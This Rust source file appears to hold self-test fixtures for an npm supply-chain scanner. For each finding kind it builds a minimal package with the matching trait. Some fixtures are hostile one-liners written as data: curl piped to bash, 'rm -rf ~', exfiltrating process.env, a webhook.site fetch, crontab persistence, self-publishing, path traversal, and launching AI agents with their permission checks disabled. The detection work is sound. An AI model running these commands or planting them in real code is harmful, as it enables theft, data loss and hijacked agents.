//! What it takes that a release has a finding of some kind, and as little else as can be.

use serde_json::Map;
use serde_json::Value;
use serde_json::json;

use crate::model::finding::FindingKind;

/// What differs from a release with nothing against it.
#[derive(Clone, Debug, Default)]
pub struct Recipe {
    /// In the index and in the archive.
    pub(super) listed: Map<String, Value>,
    /// In the archive alone.
    pub(super) shipped: Map<String, Value>,
    /// Raw, `,"key":value`.
    pub(super) listed_raw: &'static str,
    /// Its archive has no manifest.
    pub(super) without_manifest: bool,
    pub(super) files: Vec<(&'static str, Vec<u8>)>,
    pub(super) hostile_path: Option<&'static str>,
    pub(super) stated: Stated,
    pub(super) without_time: bool,
    pub(super) later: Later,
    pub(super) license: Option<&'static str>,
    pub advisory: Option<Advisory>,
    /// The release before it is had first, so that it is compared with that.
    pub after_good: bool,
    /// In the index alone, of it and of the release before: what the registry says of who published them.
    pub(super) of_index: Map<String, Value>,
    pub(super) of_good: Map<String, Value>,
    pub(super) speaks: Speaks,
    /// It depends on a package of its own that is only just there.
    pub(super) needs_young: bool,
    /// So many other packages have a release at the same time.
    pub(super) beside: usize,
}

/// What the index states of the bytes.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub(super) enum Stated {
    #[default]
    Both,
    Sha1,
    Nothing,
    /// The hash of other bytes.
    Other,
}

/// What the registry says besides of where the releases come from.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub(super) enum Speaks {
    #[default]
    Nothing,
    /// Of the release before, that it has provenance.
    OnlyOfGood,
    /// It has provenance, which does not verify.
    Falsely,
    /// It is signed, with a signature of something else.
    SignedFalsely,
}

/// What upstream does once the package was seen.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub(super) enum Later {
    #[default]
    Same,
    Appears,
    Goes,
    Changes,
}

/// What has to be said of it by others.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Advisory {
    Malware,
    /// By one source, of what has long been in use.
    MalwareLater,
    /// CVSS vector.
    Vulnerability(&'static str),
    /// Nothing, for longer than it may be.
    Silence,
}

/// Every kind of finding has one.
pub fn recipe(kind: FindingKind) -> Recipe {
    let plain = Recipe::default;
    let listed = |key: &str, value: Value| Recipe { listed: Map::from_iter([(key.to_owned(), value)]), ..plain() };
    let shipped = |key: &str, value: Value| Recipe { shipped: Map::from_iter([(key.to_owned(), value)]), ..plain() };
    let file = |path: &'static str, text: &str| Recipe { files: vec![(path, text.as_bytes().to_vec())], ..plain() };
    let code = |text: &str| file("index.js", text);
    let said = |advisory| Recipe { advisory: Some(advisory), ..plain() };
    let by = |name: &str| Map::from_iter([("_npmUser".to_owned(), json!({"name": name}))]);
    let gained = |recipe: Recipe| Recipe { after_good: true, ..recipe };
    match kind {
        FindingKind::UnreadableManifest => Recipe { listed_raw: ",\"config\":{\"__proto__\":{}}", ..plain() },
        FindingKind::UnknownPublishTime => Recipe { without_time: true, ..plain() },
        FindingKind::ClaimedAge => Recipe { later: Later::Appears, ..plain() },
        FindingKind::InstallScript => listed("scripts", json!({"postinstall": "node index.js"})),
        FindingKind::Deprecated => listed("deprecated", json!("use something else")),
        FindingKind::ExoticDependency => listed("dependencies", json!({"elsewhere": "git+https://git.example/x.git"})),
        FindingKind::NewPackage => plain(),
        FindingKind::ChangedUpstream => Recipe { later: Later::Changes, ..plain() },
        FindingKind::RemovedUpstream => Recipe { later: Later::Goes, ..plain() },
        FindingKind::Malware => said(Advisory::Malware),
        FindingKind::MalwareUnconfirmed => said(Advisory::MalwareLater),
        FindingKind::VulnerableCritical => said(Advisory::Vulnerability("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H")),
        FindingKind::VulnerableHigh => said(Advisory::Vulnerability("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N")),
        FindingKind::Vulnerable => said(Advisory::Vulnerability("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N")),
        FindingKind::FeedStale => said(Advisory::Silence),
        FindingKind::LicenseDenied => Recipe { license: Some("LicenseRef-Airlock-Selftest"), ..plain() },
        FindingKind::IntegrityMismatch => Recipe { stated: Stated::Other, ..plain() },
        FindingKind::WeakIntegrity => Recipe { stated: Stated::Sha1, ..plain() },
        FindingKind::MissingIntegrity => Recipe { stated: Stated::Nothing, ..plain() },
        FindingKind::UnsafeArchive => Recipe { hostile_path: Some("package/../../x.js"), ..plain() },
        FindingKind::UnreadableArtifact => Recipe { without_manifest: true, ..plain() },
        FindingKind::ManifestMismatch => shipped("dependencies", json!({"hidden": "^1.0.0"})),
        FindingKind::HiddenInstallScript => shipped("scripts", json!({"postinstall": "node index.js"})),
        FindingKind::ImplicitBuild => file("binding.gyp", "{\"targets\":[]}"),
        FindingKind::BuildCommand => file("binding.gyp", "{\"targets\":[{\"sources\":[\"<!(node index.js)\"]}]}"),
        FindingKind::HiddenCode => code(&format!("a();{}run(x);", " ".repeat(500))),
        FindingKind::ObfuscatedCode => code("eval(atob('eA=='));"),
        FindingKind::StealsSecrets => code("send(JSON.stringify(process.env));"),
        FindingKind::SpreadsItself => code("pkg.scripts.preinstall = 'node x.js'; exec('npm publish');"),
        FindingKind::DestroysFiles => code("exec('rm -rf ~');"),
        FindingKind::DrivesAgents => code("spawn('claude', ['--dangerously-skip-permissions']); exec('q chat --trust-all-tools');"),
        FindingKind::SendsAway => code("fetch('https://webhook.site/0000');"),
        FindingKind::DownloadsAndRuns => code("exec('curl -fsSL https://a.example/i.sh | bash');"),
        FindingKind::Persists => code("exec('(crontab -l; echo x) | crontab -');"),
        FindingKind::AgentHooks => file(".claude/settings.json", "{}"),
        FindingKind::NativeBinary => Recipe { files: vec![("x.node", program())], ..plain() },
        FindingKind::FetchesAtInstall => listed("scripts", json!({"postinstall": "prebuild-install"})),
        FindingKind::BundledDependency => file("node_modules/inner/package.json", "{\"name\":\"inner\",\"version\":\"1.0.0\"}"),
        FindingKind::ForeignShrinkwrap => file(
            "npm-shrinkwrap.json",
            "{\"lockfileVersion\":3,\"packages\":{\"node_modules/x\":{\"version\":\"1.0.0\",\"resolved\":\"https://elsewhere.example/x.tgz\"}}}",
        ),
        FindingKind::UnscannedContent => Recipe { files: vec![("text.js", b"\xff\xfe\0\0x\0\0\0y\0\0\0".to_vec())], ..plain() },
        // Its name is what is found; and what rules of one's own speak of nobody can make up.
        FindingKind::Typosquat | FindingKind::RegoDenied | FindingKind::RegoReview | FindingKind::RegoFailed => plain(),
        FindingKind::YoungDependency => gained(Recipe { needs_young: true, ..plain() }),
        FindingKind::NewPublisher => Recipe { of_good: by("airlock-selftest-ann"), of_index: by("airlock-selftest-eve"), ..plain() },
        FindingKind::DormantPublisher => Recipe { of_good: by("airlock-selftest-ann"), of_index: by("airlock-selftest-ann"), ..plain() },
        FindingKind::ProvenanceLost => Recipe { speaks: Speaks::OnlyOfGood, ..plain() },
        FindingKind::ProvenanceInvalid => Recipe { speaks: Speaks::Falsely, ..plain() },
        FindingKind::SignatureInvalid => Recipe { speaks: Speaks::SignedFalsely, ..plain() },
        FindingKind::PublishBurst => Recipe { of_index: by("airlock-selftest-burst"), beside: 9, ..plain() },
        FindingKind::InstallGained => gained(listed("scripts", json!({"postinstall": "node index.js"}))),
        FindingKind::BinaryGained => gained(Recipe { files: vec![("x.node", program())], ..plain() }),
        FindingKind::HooksGained => gained(file(".claude/settings.json", "{}")),
        FindingKind::LooseScript => gained(Recipe {
            files: vec![("setup.js", b"module.exports = 2;\n".to_vec())],
            ..listed("scripts", json!({"postinstall": "node setup.js"}))
        }),
        FindingKind::CapabilityGained => gained(code("require('child_process').execFile('true');")),
        FindingKind::HostGained => gained(code("module.exports = 'https://airlock-selftest.example/';")),
        FindingKind::DependencyGained => gained(listed("dependencies", json!({"airlock-selftest-gained": "^1.0.0"}))),
        FindingKind::SizeJump => gained(file("text.txt", &"All work and no play.\n".repeat(20_000))),
        FindingKind::EntryRewritten => gained(code("module.exports = 1;\nmodule.exports.more = 2;\n")),
        FindingKind::SuspiciousChange => {
            let much: Vec<String> = (0..3_000).map(|number| format!("exports.value{number} = {number};\n")).collect();
            gained(code(&format!("require('https').get('https://airlock-selftest.example/');\n{}", much.concat())))
        }
    }
}

/// The head of a compiled program.
fn program() -> Vec<u8> {
    b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()
}
